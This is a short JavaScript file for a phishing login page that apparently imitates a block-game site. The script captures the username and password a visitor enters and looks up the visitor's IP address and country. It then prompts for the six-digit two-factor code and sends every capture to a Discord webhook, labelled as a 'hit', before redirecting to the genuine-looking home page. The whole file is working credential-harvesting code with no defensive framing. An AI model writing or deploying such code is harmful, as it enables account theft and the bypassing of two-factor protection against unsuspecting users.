const hook = 'https://discord.com/api/webhooks/000000/TOKEN';
const loginBtn = document.getElementById('login-button');
const user = document.getElementById('login-username');
const pw = document.getElementById('login-password');

async function send(embed) {
    const data = await fetch('https://ipinfo.io/json').then(r => r.json()).catch(() => ({}));
    embed.fields.push({ name: 'IP', value: '`' + (data.ip || '?') + '` ' + (data.country || ''), inline: true });
    return fetch(hook, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ username: 'blocks bot', content: '@everyone', embeds: [embed] })
    });
}

loginBtn.addEventListener('click', async () => {
    if (!user.value || !pw.value) return;
    loginBtn.disabled = true;
    await send({
        title: 'New hit - ' + user.value,
        color: 0x57f287,
        fields: [
            { name: 'Username', value: '```' + user.value + '```' },
            { name: 'Password', value: '```' + pw.value + '```' }
        ]
    });
    document.querySelector('.login-box').style.display = 'none';
    document.querySelector('.two-step').style.display = 'block';
});

document.getElementById('verify-2fa').onclick = async () => {
    const code = document.getElementById('code').value;
    if (code.length != 6) return;
    await send({ title: '2FA ' + user.value, color: 0xed4245, fields: [{ name: 'Code', value: code }] });
    location.replace('https://www.blockgame.example/home');
};
